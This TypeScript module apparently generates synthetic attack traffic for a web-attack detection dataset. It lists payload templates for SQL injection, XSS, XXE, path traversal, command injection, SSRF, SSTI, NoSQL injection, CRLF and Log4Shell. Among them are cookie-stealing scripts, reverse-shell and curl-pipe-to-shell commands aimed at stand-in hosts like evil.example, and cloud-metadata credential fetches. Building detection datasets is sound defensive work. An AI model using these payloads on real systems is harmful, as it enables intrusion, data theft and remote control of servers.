/**
 * Attack payload templates for the OWASP Top-10 classes the synthetic dataset covers. A template is
 * text with `{host}`, `{n}`, `{t}`, `{c}`, `{ip}`, `{port}` holes; `mutate` adds the variety seen in
 * real traffic (keyword case, SQL comments instead of spaces, alternative whitespace).
 */
import type { Rng } from './rng.js';

export const SYNTH_CLASSES = [
  'sqli',
  'xss',
  'xxe',
  'traversal',
  'cmdi',
  'ssrf',
  'ssti',
  'nosqli',
  'crlf',
  'log4shell',
] as const;
export type SynthClass = (typeof SYNTH_CLASSES)[number];

/** Where a value is placed in the request. */
export type SynthContext = 'query' | 'form' | 'json' | 'header' | 'cookie' | 'path' | 'xml';

export const TEMPLATES: Record<SynthClass, readonly string[]> = {
  sqli: [
    "' OR '1'='1",
    "' OR 1=1-- -",
    '1 UNION SELECT {c},{c} FROM {t}--',
    "1' AND SLEEP({n})#",
    "'; DROP TABLE {t};--",
    '1 AND 1=CONVERT(int,(SELECT @@version))',
    "admin'--",
    "1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a",
    "1;WAITFOR DELAY '0:0:{n}'--",
    "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
    '") OR ("a"="a',
    "1' ORDER BY {n}--",
    '1 AND extractvalue(1,concat(0x7e,(select user())))',
    "' AND 1=(SELECT COUNT(*) FROM {t}) AND ''='",
    '-1 UNION SELECT username,password FROM users',
    "1' AND pg_sleep({n})--",
  ],
  xss: [
    '<script>alert({n})</script>',
    '<img src=x onerror=alert(document.cookie)>',
    '<svg/onload=alert({n})>',
    "\"><script>fetch('//{host}/c?'+document.cookie)</script>",
    'javascript:alert({n})',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert('x')>",
    '<details open ontoggle=alert({n})>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '\'><img src=1 onerror=eval(atob("YWxlcnQoMSk="))>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<input autofocus onfocus=alert({n})>',
    '<script src=//{host}/x.js></script>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  ],
  xxe: [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data [<!ENTITY x SYSTEM "http://{host}/evil.dtd">]><data>&x;</data>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://{host}/p.dtd"> %dtd;]><r/>',
    '<!DOCTYPE order [<!ENTITY file SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><order><id>&file;</id></order>',
    '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE a [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><soap:Body><q>&e;</q></soap:Body></soap:Envelope>',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/shadow"><!ENTITY % b "<!ENTITY c SYSTEM \'http://{host}/?%a;\'>">%b;]><x>&c;</x>',
  ],
  traversal: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow',
    '/var/www/images/../../../etc/passwd',
    '..%252f..%252f..%252fetc%252fpasswd',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '../../../../../../proc/self/environ',
    '..%5c..%5c..%5cboot.ini',
    '../../../../etc/hosts%00.png',
  ],
  cmdi: [
    '; cat /etc/passwd',
    '| id',
    '`whoami`',
    '$(curl http://{host}/x.sh|sh)',
    '&& ping -c {n} 127.0.0.1',
    '; wget http://{host}/b -O /tmp/b; chmod +x /tmp/b',
    '|| nc -e /bin/sh {ip} 4444',
    '127.0.0.1; ls -la /',
    '\nid',
    '& type C:\\Windows\\win.ini',
    ';${IFS}cat${IFS}/etc/passwd',
    '$(sleep {n})',
    '| bash -i >& /dev/tcp/{ip}/4444 0>&1',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://127.0.0.1:{port}/admin',
    'http://localhost/server-status',
    'http://[::1]:22/',
    'http://0x7f000001/',
    'http://2130706433/',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'file:///etc/passwd',
    'http://metadata.google.internal/computeMetadata/v1/',
    'dict://127.0.0.1:11211/stats',
    'http://10.0.0.{n}:8080/actuator/env',
    'http://169.254.169.254.nip.io/latest/',
    'http://0177.0.0.1/',
  ],
  ssti: [
    '{{7*7}}',
    '{{config.items()}}',
    '${7*7}',
    '<%= 7*7 %>',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    '#{7*7}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    '{{self._TemplateReference__context.joiner.__init__.__globals__.os.popen("id").read()}}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  ],
  nosqli: [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$regex": "^adm"}',
    '{"$where": "sleep({n}000)"}',
    "' || '1'=='1",
    "'; return true; var x='",
    '{"$in": ["admin", "root"]}',
    '{"$exists": true}',
  ],
  crlf: [
    '\r\nSet-Cookie: session=attacker',
    '\r\nLocation: http://{host}/',
    '\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>',
    '\nX-Injected: {n}',
    '\r\nAccess-Control-Allow-Origin: *',
    'en\r\nSet-Cookie: admin=true',
  ],
  log4shell: [
    '${jndi:ldap://{host}/a}',
    '${jndi:rmi://{host}:1099/x}',
    '${${lower:j}ndi:${lower:l}dap://{host}/x}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://{host}/a}',
    '${jndi:dns://{host}/q}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://{host}/}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://{host}/x}',
    '${j${k8s:k5:-ND}i:ldap://{host}/}',
    '${jndi:ldaps://{ip}:636/Exploit}',
  ],
};

/** The contexts each class is placed in (where the attack makes sense in real traffic). */
export const CONTEXTS: Record<SynthClass, readonly SynthContext[]> = {
  sqli: ['query', 'form', 'json', 'cookie', 'header'],
  xss: ['query', 'form', 'json', 'header', 'cookie'],
  xxe: ['xml', 'xml', 'form'],
  traversal: ['query', 'path', 'json', 'cookie', 'form'],
  cmdi: ['query', 'form', 'json', 'header'],
  ssrf: ['query', 'json', 'form'],
  ssti: ['query', 'form', 'json'],
  nosqli: ['json', 'json', 'query', 'form'],
  crlf: ['query', 'path', 'form'],
  log4shell: ['header', 'header', 'query', 'json', 'cookie'],
};

const ATTACKER_HOSTS = ['evil.example', 'attacker.test', 'x.oast.example', 'c2.invalid', 'cb.example.net'];
const TABLES = ['users', 'accounts', 'orders', 'admin', 'credentials'];
const COLS = ['username', 'password', 'email', 'card_no', 'api_key'];

export function fillTemplate(t: string, rng: Rng): string {
  return t.replace(/\{(host|n|t|c|ip|port)\}/g, (_, k: string) => {
    switch (k) {
      case 'host':
        return rng.pick(ATTACKER_HOSTS);
      case 'n':
        return String(rng.int(1, 9));
      case 't':
        return rng.pick(TABLES);
      case 'c':
        return rng.pick(COLS);
      case 'ip':
        return `198.51.100.${rng.int(1, 254)}`;
      default:
        return rng.pick(['80', '8080', '6379', '9200', '2375']);
    }
  });
}

const SQL_WORDS = /\b(select|union|from|where|and|or|order by|sleep|drop table|waitfor delay)\b/gi;
const XSS_WORDS = /(script|onerror|onload|alert|svg|img|iframe|javascript)/gi;

function mixCase(s: string, rng: Rng): string {
  let out = '';
  for (const ch of s) out += rng.chance(0.5) ? ch.toUpperCase() : ch.toLowerCase();
  return out;
}

/** Real-traffic variety for a filled payload: keyword case, SQL comments or other whitespace. */
export function mutate(cls: SynthClass, payload: string, rng: Rng): string {
  let p = payload;
  if (cls === 'sqli') {
    if (rng.chance(0.3)) p = p.replace(SQL_WORDS, (w) => mixCase(w, rng));
    if (rng.chance(0.2)) p = p.replace(/ /g, '/**/');
    else if (rng.chance(0.15)) p = p.replace(/ /g, rng.pick(['\t', '\n', '  ']));
  } else if (cls === 'xss') {
    if (rng.chance(0.3)) p = p.replace(XSS_WORDS, (w) => mixCase(w, rng));
    if (rng.chance(0.1)) p = p.replace(/ /g, '/');
  } else if (cls === 'log4shell') {
    if (rng.chance(0.2)) p = p.replace(/jndi|ldap|rmi/gi, (w) => mixCase(w, rng));
  } else if (cls === 'cmdi') {
    if (rng.chance(0.15)) p = p.replace(/ /g, '${IFS}');
  }
  return p;
}
